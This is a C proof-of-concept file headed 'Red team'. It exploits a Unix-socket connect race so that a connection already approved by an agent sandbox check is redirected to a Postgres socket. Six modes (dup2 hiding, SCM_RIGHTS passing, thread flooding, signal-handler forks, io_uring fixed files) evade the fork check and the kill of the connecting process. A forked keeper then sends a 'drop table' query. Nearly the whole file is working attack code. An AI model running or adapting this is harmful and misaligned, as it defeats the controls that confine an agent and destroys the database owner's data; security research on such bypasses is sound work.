// Red team: a Unix connect that waits on a full backlog of the agent's own listener re-resolves
// its path when woken (unix_stream_connect: goto restart -> unix_find_other), after connect_unix
// judged it.  While it waits, another thread shares the socket; the name is then turned to
// Postgres's socket and the backlog drained.
//   rt_unix_retarget DIR PGSOCK TABLE MODE     MODE: fork (dup, hide the fd from the fork check by dup2, fork)
//                                       scm  (dup, pass it over SCM_RIGHTS to a child forked before)
//                                       none (control: no sharing; the connecting process is killed)
//                                       evictN (N short-lived threads each fail a Unix connect, then a fork)
//                                       sig  (an SA_RESTART handler on the waiting thread makes a Unix send,
//                                             then forks)
//                                       ring (the socket registered in the fixed files of an io_uring shared
//                                             with two processes forked before it existed)
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static size_t startup(char *b)
{
    char params[256];
    size_t n = 0;
    const char *kv[] = {"user", "postgres", "database", "awtest", "application_name", "rt-retarget"};
    for (int i = 0; i < 6; i++) {
        strcpy(params + n, kv[i]);
        n += strlen(kv[i]) + 1;
    }
    params[n++] = 0;
    uint32_t len = htonl(8 + n), ver = htonl(0x00030000);
    memcpy(b, &len, 4);
    memcpy(b + 4, &ver, 4);
    memcpy(b + 8, params, n);
    return 8 + n;
}

static size_t query(char *b, const char *sql)
{
    size_t n = strlen(sql) + 1;
    uint32_t len = htonl(4 + n);
    b[0] = 'Q';
    memcpy(b + 1, &len, 4);
    memcpy(b + 5, sql, n);
    return 5 + n;
}

static struct sockaddr_un un(const char *p)
{
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    strncpy(sa.sun_path, p, sizeof sa.sun_path - 1);
    return sa;
}


#include <linux/io_uring.h>
#include <sys/mman.h>
static int ring_fd;
static unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
static struct io_uring_sqe *sqes;
static struct io_uring_cqe *cqes;
static void ring_init(void)
{
    struct io_uring_params p = {0};
    ring_fd = syscall(__NR_io_uring_setup, 8, &p);
    if (ring_fd < 0) { perror("io_uring_setup"); exit(1); }
    size_t sqsz = p.sq_off.array + p.sq_entries * 4, cqsz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQ_RING);
    char *cq = mmap(0, cqsz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_CQ_RING);
    sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring_fd, IORING_OFF_SQES);
    sq_tail = (void *)(sq + p.sq_off.tail); sq_mask = (void *)(sq + p.sq_off.ring_mask);
    sq_array = (void *)(sq + p.sq_off.array); cq_head = (void *)(cq + p.cq_off.head);
    cq_tail = (void *)(cq + p.cq_off.tail); cq_mask = (void *)(cq + p.cq_off.ring_mask);
    cqes = (void *)(cq + p.cq_off.cqes);
    int sparse[1] = {-1};
    if (syscall(__NR_io_uring_register, ring_fd, IORING_REGISTER_FILES, sparse, 1) < 0) perror("register files");
}
// the socket in the ring's fixed slot 0: installed as a descriptor of the calling process
static int ring_install(void)
{
    unsigned t = *sq_tail, i = t & *sq_mask;
    struct io_uring_sqe *e = &sqes[i];
    memset(e, 0, sizeof(*e));
    e->opcode = 54;            // IORING_OP_FIXED_FD_INSTALL
    e->fd = 0;
    e->flags = IOSQE_FIXED_FILE;
    sq_array[i] = i;
    __atomic_store_n(sq_tail, t + 1, __ATOMIC_RELEASE);
    syscall(__NR_io_uring_enter, ring_fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    while (__atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) == *cq_head)
        syscall(__NR_io_uring_enter, ring_fd, 0, 1, IORING_ENTER_GETEVENTS, 0, 0);
    int res = cqes[*cq_head & *cq_mask].res;
    __atomic_store_n(cq_head, *cq_head + 1, __ATOMIC_RELEASE);
    return res;
}

static int s_fd;
static char alias[256];
static void *connector(void *arg)
{
    struct sockaddr_un sa = un(alias);
    if (connect(s_fd, (struct sockaddr *)&sa, sizeof sa) != 0)
        printf("refused %d\n", errno);
    else
        printf("connected (alive)\n");
    fflush(stdout);
    return arg;
}

// evictN: a thread whose Unix connect fails (its connect note stays until the thread exits)
static void *failer(void *arg)
{
    struct sockaddr_un sa = un("/nonexistent/rt3");
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    connect(s, (struct sockaddr *)&sa, sizeof sa);
    close(s);
    return arg;
}

static pid_t g_parent;
static const char *g_table;
static void keeper(int fd, pid_t parent, const char *table);
static void on_usr1(int sig)
{
    (void)sig;
    int sp[2];                       // a Unix send on this thread: its marker deleted
    socketpair(AF_UNIX, SOCK_STREAM, 0, sp);
    write(sp[0], "x", 1);
    close(sp[0]);
    close(sp[1]);
    pid_t c = fork();                // forked by the connecting thread itself, in its handler
    if (c == 0)
        keeper(s_fd, g_parent, g_table);
    fprintf(stderr, "handler forked %d\n", c);
}

// the process that keeps the socket: one sender for the startup (killed after it is queued), a
// second (forked after the connect, no check then) reads ReadyForQuery and sends the statement
static void keeper(int fd, pid_t parent, const char *table)
{
    while (getppid() == parent)
        usleep(10000);
    char b[512];
    if (fork() == 0) {
        char r[4096];
        size_t got = 0;
        for (;;) {
            ssize_t n = read(fd, r + got, sizeof r - got);
            if (n <= 0) {
                fprintf(stderr, "keeper read %zd errno %d\n", n, errno);
                _exit(1);
            }
            got += n;
            if (memchr(r, 'Z', got))
                break;
        }
        char sql[128];
        snprintf(sql, sizeof sql, "drop table %s", table);
        size_t n = query(b, sql);
        ssize_t w = write(fd, b, n);
        fprintf(stderr, "keeper sent query %zd errno %d\n", w, errno);
        sleep(2);
        _exit(0);
    }
    usleep(100000);
    size_t n = startup(b);
    ssize_t w = write(fd, b, n);
    fprintf(stderr, "keeper sent startup %zd errno %d\n", w, errno);
    sleep(3);
    _exit(0);
}

int main(int argc, char **argv)
{
    const char *dir = argv[1], *pgsock = argv[2], *table = argv[3], *mode = argv[4];
    char own[256], tmp[256];
    snprintf(own, sizeof own, "%s/own.sock", dir);
    snprintf(alias, sizeof alias, "%s/alias", dir);
    snprintf(tmp, sizeof tmp, "%s/alias.tmp", dir);
    unlink(own);
    unlink(alias);
    int l = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sa = un(own);
    if (bind(l, (struct sockaddr *)&sa, sizeof sa) || listen(l, 0)) {
        perror("listen");
        return 1;
    }
    int filler = socket(AF_UNIX, SOCK_STREAM, 0);   // the backlog of 0 holds this one
    if (connect(filler, (struct sockaddr *)&sa, sizeof sa)) {
        perror("filler");
        return 1;
    }
    symlink(own, alias);
    pid_t parent = getpid();
    struct sigaction act = {.sa_handler = on_usr1, .sa_flags = SA_RESTART};
    sigaction(SIGUSR1, &act, 0);
    int sp[2];
    socketpair(AF_UNIX, SOCK_DGRAM, 0, sp);
    pid_t early = 0;
    if (!strcmp(mode, "ring")) {
        ring_init();
        if (fork() == 0) {      // Q: the startup sender
            while (getppid() == parent) usleep(10000);
            int fd = ring_install();
            char b[512];
            size_t n = startup(b);
            ssize_t w = write(fd, b, n);
            fprintf(stderr, "Q installed %d sent startup %zd errno %d\n", fd, w, errno);
            sleep(3);
            _exit(0);
        }
        if (fork() == 0) {      // R: reads ReadyForQuery, sends the statement
            while (getppid() == parent) usleep(10000);
            usleep(300000);
            int fd = ring_install();
            char r[4096], b[512];
            size_t got = 0;
            for (;;) {
                ssize_t n = read(fd, r + got, sizeof r - got);
                if (n <= 0) { fprintf(stderr, "R read %zd errno %d\n", n, errno); _exit(1); }
                got += n;
                if (memchr(r, 'Z', got)) break;
            }
            char sql[128];
            snprintf(sql, sizeof sql, "drop table %s", table);
            size_t n = query(b, sql);
            ssize_t w = write(fd, b, n);
            fprintf(stderr, "R installed %d sent query %zd errno %d\n", fd, w, errno);
            sleep(2);
            _exit(0);
        }
    }
    if (!strcmp(mode, "scm") && (early = fork()) == 0) {   // before the socket exists
        char c;
        struct iovec io = {&c, 1};
        char cbuf[CMSG_SPACE(sizeof(int))];
        struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
        if (recvmsg(sp[1], &m, 0) < 0) {
            perror("recvmsg");
            _exit(1);
        }
        int fd;
        memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
        fprintf(stderr, "early child got fd %d\n", fd);
        keeper(fd, parent, table);
    }
    usleep(100000);
    s_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    pthread_t th;
    pthread_create(&th, 0, connector, 0);
    usleep(300000);                        // judged by connect_unix, now waiting on the backlog
    if (!strncmp(mode, "evict", 5)) {
        int n = atoi(mode + 5);
        for (int i = 0; i < n; i++) {
            pthread_t f;
            pthread_create(&f, 0, failer, 0);
            pthread_join(f, 0);
        }
        pid_t c = fork();
        if (c == 0)
            keeper(s_fd, parent, table);
        fprintf(stderr, "flooded %d, forked %d\n", n, c);
        usleep(200000);
    } else if (!strcmp(mode, "sig")) {
        g_parent = parent;
        g_table = table;
        pthread_kill(th, SIGUSR1);
        usleep(300000);
    } else if (!strcmp(mode, "ring")) {
        int fds[1] = {s_fd};
        struct io_uring_files_update up = {.offset = 0, .fds = (uintptr_t)fds};
        long r = syscall(__NR_io_uring_register, ring_fd, IORING_REGISTER_FILES_UPDATE, &up, 1);
        fprintf(stderr, "registered in the shared ring: %ld\n", r);
    } else if (!strcmp(mode, "fork")) {
        int m = dup(s_fd);
        int nul = open("/dev/null", O_RDONLY);
        dup2(nul, s_fd);                   // connect()'s rdi now names /dev/null
        pid_t c = fork();
        if (c == 0)
            keeper(m, parent, table);
        fprintf(stderr, "forked %d\n", c);
    } else if (!strcmp(mode, "scm")) {
        int m = dup(s_fd);
        char c = 'x';
        struct iovec io = {&c, 1};
        char cbuf[CMSG_SPACE(sizeof(int))] = {0};
        struct msghdr msg = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
        struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
        cm->cmsg_level = SOL_SOCKET;
        cm->cmsg_type = SCM_RIGHTS;
        cm->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(cm), &m, sizeof m);
        if (sendmsg(sp[0], &msg, 0) < 0)
            perror("sendmsg");
        usleep(200000);                    // received: in the child's table
    }
    unlink(tmp);
    symlink(pgsock, tmp);
    rename(tmp, alias);                    // the name now reaches Postgres
    int a = accept(l, 0, 0);               // room on the backlog: the connect restarts
    fprintf(stderr, "drained %d\n", a);
    pthread_join(th, 0);
    sleep(2);
    printf("alive\n");
    return 0;
}
